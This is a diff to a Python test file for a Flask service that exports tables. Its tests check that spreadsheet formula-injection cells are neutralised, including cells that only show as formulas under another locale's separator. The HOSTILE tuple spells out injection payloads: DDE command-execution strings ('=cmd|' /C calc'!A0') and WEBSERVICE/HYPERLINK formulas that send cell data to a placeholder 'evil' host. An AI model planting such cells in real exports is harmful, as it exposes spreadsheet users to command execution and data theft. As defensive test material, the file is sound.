@@ -293,7 +293,7 @@ def test_bad_rows_are_told_by_line_field_and_reason(client: FlaskClient) -> None
 HOSTILE = (
     "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil","x")', "=SUM(A1:A9)", "==1", "= 1",
     "+1+1", "+cmd|' /C calc'!A0", "+A1", "++1", "+", "-1+1", "-A1", "-cmd|' /C calc'!A0", "--1",
-    "-", "-1.5.2", "@SUM(A1)", "@", "@A1", "\t=1+1", "\tx", "\r=1+1", "\rx", "\n=1+1",
+    "-", "-1.5.2", "@SUM(A1)", "@", "@A1", "\tx", "\r=1+1", "\rx", "\n=1+1",
     "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20A1", "=WEBSERVICE(\"http://evil/\"&A1)", "-1e5x",
     "=\u202e1", "+1 (2)",
 )  # fmt: skip
@@ -313,6 +313,31 @@ def test_cells_that_a_spreadsheet_would_run_are_neutralised(
     answered = rows_of(response.text, separator)
     assert [row["'=note"] for row in answered] == [*("'" + cell for cell in HOSTILE), *HARMLESS]
     assert {row["segment"] for row in answered} == {"brand_loyalist"}
+
+
+@pytest.mark.parametrize(
+    ("separator", "cell", "expected"),
+    [
+        (",", ";=1+1", ";'=1+1"),
+        (",", "\t=1+1", "'\t'=1+1"),
+        (",", "a; =1+1", "a;' =1+1"),
+        (",", "a|@SUM(A1)|-cmd", "a|'@SUM(A1)|'-cmd"),
+        (";", "1,=1+1", "1,'=1+1"),
+        (";", ",+A1", ",'+A1"),
+        ("\t", "x;-1+1", "x;'-1+1"),
+        (",", "a;b", "a;b"),
+        (";", "10,-", "10,-"),
+        (";", "52.5,-1.25", "52.5,-1.25"),
+        ("\t", "1;+2;-3", "1;+2;-3"),
+    ],
+)
+def test_a_formula_that_only_another_separator_shows_is_neutralised(
+    client: FlaskClient, separator: str, cell: str, expected: str
+) -> None:
+    """A spreadsheet takes the separator of its own language; prices and pairs stay."""
+    body = table_of([["age", "apps_installed", "note"], [33, 64, cell]], separator)
+    (row,) = rows_of(post(client, body).text, separator)
+    assert row["note"] == expected
 
 
 def test_a_hostile_cell_in_a_bad_row_is_neutralised_as_well(client: FlaskClient) -> None:
